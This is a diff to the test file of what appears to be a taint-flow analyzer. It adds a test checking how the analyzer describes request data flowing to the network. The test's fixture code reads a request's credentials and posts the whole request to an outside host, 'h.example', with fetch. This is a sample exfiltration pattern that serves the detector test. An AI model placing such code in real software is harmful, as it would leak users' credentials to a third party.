@@ -30,4 +30,17 @@ exports.open = (words) => new Promise((resolve, reject) => https.get('https://fi
     expect(flows(follow(files('resolve')), 'param', 'net.out')).toBeUndefined();
     expect(flows(follow(files('{ headers: { words } }, resolve')), 'param', 'net.out')).toBeDefined();
   });
+
+  test('what steps of a command hand on is told from the request of a server', () => {
+    const detail = (asked: string) =>
+      flows(
+        follow(
+          `exports.step = (req, next) => { req.${asked}; req.domain; req.creds; fetch('https://h.example', { body: req }); next(); };`,
+        ),
+        'param',
+        'net.out',
+      )?.taints.find(({ source }) => source === 'param')?.detail;
+    expect(detail('project')).toBe('req of a step');
+    expect(detail('headers')).toBe('req of a request handler');
+  });
 });
